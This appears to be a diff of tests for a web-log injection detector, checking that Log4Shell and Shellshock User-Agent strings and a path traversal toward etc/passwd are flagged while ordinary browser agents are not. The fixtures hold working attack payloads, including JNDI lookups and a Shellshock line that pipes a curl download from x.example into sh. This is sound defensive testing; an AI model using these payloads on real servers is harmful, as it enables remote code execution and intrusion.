@@ -40,6 +40,8 @@ def test_one_attempt_is_low_two_medium_several_high():
         a.severity
         for a in detector.score(pl.DataFrame([attempts(1), attempts(2, ip="a"), attempts(3, ip="b")]))
     ] == ["low", "medium", "high"]
+    [remote_code] = detector.score(pl.DataFrame([attempts(1, ("command_injection",))]))
+    assert remote_code.severity == "medium"        # one attempt that would run code on the server
     [alert] = detector.score(pl.DataFrame([attempts(4, ("sqli", "xss"), consumer_id="c1")]))
     assert (alert.consumer_id, alert.client_ip, alert.dataset_id) == ("c1", "203.0.113.9", "d1")
     assert (alert.window_start, alert.window_end) == day_window(DAY)
@@ -77,3 +79,21 @@ def test_a_traversal_in_a_refused_path_is_an_attempt(client):
                           endpoint=f"/static/{'../' * (n + 3)}etc/passwd") for n in range(3)])
     [alert] = InjectionDetector().run(client, whole_days(DAY, DAY))
     assert alert.client_ip == "203.0.113.77" and "path_traversal" in alert.evidence["attack_classes"]
+
+
+def test_log4shell_and_shellshock_in_the_user_agent_are_attempts_and_browsers_are_not(client):
+    browsers = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131",
+                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) {Mobile} Safari/604.1"]
+    insert(client, [event(at(DAY, 9, n), "", "", client_ip=f"198.51.100.{n}", endpoint="/", user_agent=agent)
+                    for n, agent in enumerate(browsers)])
+    hostile = ["${jndi:ldap://198.51.100.66:1389/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
+               "() { :; }; /bin/bash -c 'curl http://x.example/s | sh'"]
+    insert(client, [event(at(DAY, 10, n), "", "", client_ip=f"203.0.113.{60 + n}", endpoint="/", status=404,
+                          user_agent=agent) for n, agent in enumerate(hostile)])
+    alerts = {a.client_ip: a for a in InjectionDetector().run(client, whole_days(DAY, DAY))}
+    assert sorted(alerts) == ["203.0.113.60", "203.0.113.61", "203.0.113.62"]
+    assert all(a.severity == "medium" and "command_injection" in a.evidence["attack_classes"]
+               for a in alerts.values())
+    assert alerts["203.0.113.60"].evidence["injection_samples"] == ["User-Agent: ${jndi:ldap://198.51.100.66:1389/a}"]
+
